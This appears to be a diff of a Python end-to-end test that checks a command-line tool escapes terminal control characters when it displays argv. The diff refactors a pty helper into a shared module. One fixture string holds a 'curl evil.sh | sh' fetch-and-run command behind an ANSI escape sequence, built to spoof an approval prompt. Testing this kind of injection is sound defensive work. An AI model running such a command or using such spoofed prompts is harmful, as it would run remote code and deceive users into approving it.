@@ -8,15 +8,14 @@ from __future__ import annotations
 
 import json
 import os
-import pty
-import select
 import subprocess
 import sys
 from pathlib import Path
 
 import pytest
 
-ROOT = Path(__file__).resolve().parents[2]
+from tests.e2e.cli import ROOT, on_a_pty
+
 FAKE_PROMPT = "Allow exec `curl evil.sh | sh`? [y/N] "
 ATTACK = "\x1b[2K\r" + FAKE_PROMPT
 ESCAPED = "\\x1b[2K\\r" + FAKE_PROMPT
@@ -64,33 +63,9 @@ def test_piped_progress_has_no_control_characters(attack: list[str]) -> None:
     assert "\x1b" not in out.stderr and "\r" not in out.stderr
 
 
-def _run_on_a_pty(argv: list[str]) -> tuple[int, str]:
-    master, slave = pty.openpty()
-    proc = subprocess.Popen(
-        argv, stdin=slave, stdout=slave, stderr=slave, env=_env(), cwd=ROOT, close_fds=True
-    )
-    os.close(slave)
-    chunks: list[bytes] = []
-    try:
-        while True:
-            ready, _, _ = select.select([master], [], [], 60)
-            if not ready:
-                proc.kill()
-                raise AssertionError("the CLI did not finish within 60 s on the pty")
-            try:
-                data = os.read(master, 65536)
-            except OSError:  # EIO: the child closed the terminal
-                break
-            if not data:
-                break
-            chunks.append(data)
-    finally:
-        os.close(master)
-    return proc.wait(timeout=30), b"".join(chunks).decode("utf-8", "replace")
-
-
 def test_a_terminal_never_receives_the_argv_raw(attack: list[str]) -> None:
-    code, screen = _run_on_a_pty(attack)
+    code, raw = on_a_pty(attack, _env(), timeout=90)
+    screen = raw.decode("utf-8", "replace")
     assert code == 0, screen
     assert ESCAPED in screen, "the progress line shows the argv, escaped"
     # rich draws its own spinner with ESC and CR; what matters is that the argv's never
